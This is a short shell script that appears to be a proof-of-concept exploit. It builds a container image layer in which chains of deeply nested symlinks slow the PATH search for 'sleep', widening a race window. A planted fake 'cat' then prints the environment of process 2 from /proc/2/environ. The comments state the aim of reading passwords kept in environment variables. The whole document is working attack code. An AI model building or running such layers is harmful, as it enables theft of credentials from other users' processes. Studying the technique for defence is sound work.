#!/bin/sh
# early.sh FOLDER: make in FOLDER a layer of an image in which the program `sleep` is
# found late, and `cat` tells the environment of the first command (process 2).
#
# Between fork and execve a process is a copy of the one that started it, with all
# that this one had in memory: the environment of who called it, for one, in which
# people keep passwords.  A program of the same user can read that in
# /proc/PID/environ; see also joiner.sh.  The time between is short, but to look for
# the program is to follow links, and these the image can make long: up to 40 of
# them one after another, each through as many folders as fit into a path (4096
# bytes).  They lead to nothing, and the search goes on in the next folder of PATH.
set -eu
umask 022
cd "$1"
deep=$(printf '%01990d' 0 | sed 's,0,a/,g')
mkdir -p "$deep" usr/local/sbin usr/local/bin usr/sbin
i=1
while [ $i -le 38 ]; do
    ln -s "/$deep$((i + 1))" "$deep$i"
    i=$((i + 1))
done
for folder in usr/local/sbin usr/local/bin usr/sbin; do
    ln -s "/${deep}1" $folder/sleep
done
cat > usr/local/sbin/cat << 'END'
#!/bin/sh
tr '\0' '\n' < /proc/2/environ
END
chmod 755 usr/local/sbin/cat
